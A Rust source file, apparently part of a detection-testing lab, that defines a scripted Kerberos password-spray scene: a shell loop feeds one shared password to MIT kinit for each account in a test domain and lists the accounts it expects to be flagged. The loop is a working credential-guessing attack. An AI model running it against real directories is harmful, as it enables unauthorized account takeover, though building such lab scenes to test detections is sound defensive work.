//! Password spray with MIT Kerberos' client: one password for everybody; it fits one of them.

use anyhow::Result;

use crate::accounts::{PEOPLE, SPRAYED};
use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "spray-kinit",
    "Password spray over thirteen accounts (MIT kinit)",
    Tool::debian("kinit", "krb5-user"),
    &[Expected {
        external_id: 2023,
        source: ATTACKER,
        account: None,
        targets: &[
            "alice@hawk.example",
            "bob@hawk.example",
            "niaj@hawk.example",
        ],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(&format!(
        r#"for name in {} {SPRAYED}; do
               echo "$SPRAYED_PASSWORD" | kinit "$name" && echo "got $name" || true
           done 2>/dev/null | grep 'got {SPRAYED}'"#,
        PEOPLE.join(" ")
    ))?;
    Ok(())
}
